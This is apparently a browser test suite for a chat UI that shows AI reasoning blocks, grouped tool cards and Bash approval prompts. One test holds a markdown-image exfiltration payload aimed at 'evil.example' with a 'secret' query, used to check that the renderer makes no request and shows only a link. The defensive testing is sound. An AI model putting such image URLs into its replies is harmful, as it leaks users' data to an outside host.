import type { ChatEvent, ReasoningSegment, Segment } from '@millrace/core/fold/shapes'
import { expect, it } from 'vitest'
import { describeInBrowser } from '../../../test/browser/chromium.ts'
import { eventOf } from './html.ts'
import { status, text, thought, tool } from './segments.ts'
import { NOON, openStage, type Performance } from './stage.ts'

const played = openStage()

const live = (...segments: readonly Segment[]): ChatEvent[] => [eventOf(segments, { state: 'live' })]

/** A thought that began three seconds ago. */
const recent = (took?: number): ReasoningSegment => {
  const { endedAt: _endedAt, ...segment } = thought(1, 'It is a timer.', took)
  return { ...segment, startedAt: NOON - 3000, ...(took !== undefined && { endedAt: NOON - 3000 + took }) }
}

/** The text of each trigger, and whether it is open. */
const triggers = ({ page }: Performance) =>
  page.$$eval('[aria-expanded]', (nodes) =>
    nodes.map(
      (node) =>
        `${node.querySelector('.mr-label')?.textContent} ${node.getAttribute('aria-expanded') === 'true' ? 'open' : 'closed'}`,
    ),
  )

describeInBrowser('in a browser', () => {
  it('S0-114: a block closes 500 ms after its end', () =>
    played(async (performance) => {
      await performance.show(live(recent()))
      expect(await triggers(performance)).toEqual(['Thinking… open'])
      await performance.show(live(recent(5000)))
      await performance.page.clock.runFor(499)
      expect(await triggers(performance)).toEqual(['Thought for 5s open'])
      await performance.page.clock.runFor(2)
      expect(await triggers(performance)).toEqual(['Thought for 5s closed'])
    }))

  it('S0-115 S0-119: five steps of a stream open and close the blocks at once', () =>
    played(async (performance) => {
      const steps: readonly (readonly [segments: Segment[], triggers: string[]])[] = [
        [[status(1, ['Indexing'])], ['Processing… open']],
        [
          [status(1, ['Indexing'], 1000), thought(2, 'Hm')],
          ['Processed in 1s closed', 'Thinking… open'],
        ],
        [
          [status(1, ['Indexing'], 1000), thought(2, 'Hm, so')],
          ['Processed in 1s closed', 'Thinking… open'],
        ],
        [
          [status(1, ['Indexing'], 1000), thought(2, 'Hm, so', 2000), status(3, ['Testing'])],
          ['Processed in 1s closed', 'Thought for 2s closed', 'Processing… open'],
        ],
        [
          [
            status(1, ['Indexing'], 1000),
            thought(2, 'Hm, so', 2000),
            status(3, ['Testing'], 1000),
            text(4, 'Done', 'live'),
          ],
          ['Processed in 1s closed', 'Thought for 2s closed', 'Processed in 1s closed'],
        ],
      ]
      for (const [segments, expected] of steps) {
        await performance.show(live(...segments))
        expect(await triggers(performance)).toEqual(expected)
      }
      expect(await performance.page.locator('.mr-prose').textContent()).toBe('Done')
    }))

  it('S0-116: a click takes precedence for ever, over the end and over newer blocks', () =>
    played(async (performance) => {
      const { page } = performance
      await performance.show(live(recent()))
      await page.click('.mr-head')
      expect(await triggers(performance)).toEqual(['Thinking… closed'])
      await performance.show(live({ ...recent(), text: 'It is a timer, I think.' }))
      expect(await triggers(performance)).toEqual(['Thinking… closed'])
      await page.click('.mr-head')
      await performance.show(live(recent(5000), text(2, 'Done', 'live')))
      await page.clock.runFor(5000)
      expect(await triggers(performance)).toEqual(['Thought for 5s open'])
    }))

  it('S0-116: a card that was opened stays open when it is grouped with its neighbours', () =>
    played(async (performance) => {
      const reads = [1, 2, 3].map((seq) => tool(seq, 'Read', { input: { path: `${seq}.ts` }, output: 'x' }))
      await performance.show(live(...reads.slice(0, 2)))
      await performance.page.click('.mr-head >> nth=1')
      await performance.show(live(...reads))
      expect(await triggers(performance)).toEqual(['Read 3 files open', 'Read closed', 'Read open', 'Read closed'])
    }))

  it('S0-107: a stored block mounts closed, and stays so', () =>
    played(async (performance) => {
      await performance.show([eventOf([recent(5000)])])
      expect(await triggers(performance)).toEqual(['Thought for 5s closed'])
      expect(await performance.page.evaluate(() => document.getAnimations().length)).toBe(0)
    }))

  it('S0-112: seconds are counted while a thought is live, and become those of the data at its end', () =>
    played(async (performance) => {
      const seconds = performance.page.locator('.mr-head .mr-time')
      await performance.show(live(recent()))
      expect(await seconds.textContent()).toBe('3s')
      await performance.page.clock.runFor(4000)
      expect(await seconds.textContent()).toBe('7s')
      await performance.show(live(recent(5000)))
      expect(await performance.page.locator('.mr-label').textContent()).toBe('Thought for 5s')
      expect(await seconds.count()).toBe(0)
    }))

  it('S0-110: processing and thinking have different fills', () =>
    played(async (performance) => {
      await performance.show(live(status(1, ['a'], 1000), thought(2, 'b')))
      const fill = (selector: string) =>
        performance.page.$eval(selector, (node) => getComputedStyle(node).backgroundColor)
      expect(await fill('.mr-processing')).not.toBe(await fill('.mr-thinking'))
    }))

  it('answers an approval by button or key, once', () =>
    played(async (performance) => {
      const { page } = performance
      const asking = (seq: number) =>
        tool(seq, 'Bash', {
          state: 'approval',
          input: { command: 'ls' },
          approval: { approvalId: `a${seq}`, state: 'requested' },
        })
      await performance.show(live(asking(1), asking(2), asking(3)))
      expect(await page.evaluate(() => document.activeElement === document.body)).toBe(true)
      await page.getByRole('button', { name: 'One by one' }).click()
      await page.getByRole('button', { name: 'Approve' }).first().click()
      expect(await page.getByRole('button', { name: 'Approve' }).first().isDisabled()).toBe(true)
      await page.locator('.mr-asking').nth(1).focus()
      await page.keyboard.press('d')
      await page.keyboard.press('a')
      await page.locator('.mr-asking').nth(2).focus()
      await page.keyboard.press('Control+a')
      expect(await page.evaluate(() => globalThis.stage.answers)).toEqual([
        ['a1', { state: 'approved' }],
        ['a2', { state: 'denied' }],
      ])
    }))

  it('requests no image: it is a link', () =>
    played(async (performance) => {
      await performance.show([
        eventOf([text(1, '![x](https://evil.example/?q=secret) <img src="https://evil.example/2">')]),
      ])
      expect(performance.requests).toEqual([])
      const link = performance.page.getByRole('link', { name: 'x evil.example' })
      expect(await link.getAttribute('href')).toBe('https://evil.example/?q=secret')
      expect(performance.requests).toEqual([])
    }))

  it('a piece keeps its elements when pieces before it are hidden, shown again or joined', () =>
    played(async ({ page, show }) => {
      const segments = [thought(1, 'Hm', 500), text(2, 'First.'), thought(3, 'So', 500), text(4, 'Second.')]
      const events = [eventOf(segments)]
      await show(events)
      await page.$$eval('.mr-piece', (pieces) => {
        for (const piece of pieces) if (piece.textContent?.includes('Second.')) piece.setAttribute('data-kept', '')
      })
      for (const hidesThoughts of [true, false, true]) {
        await show(events, { hidesThoughts })
        expect(await page.$$eval('[data-kept]', (pieces) => pieces.map(({ textContent }) => textContent))).toEqual([
          'Second.',
        ])
      }
    }))
})
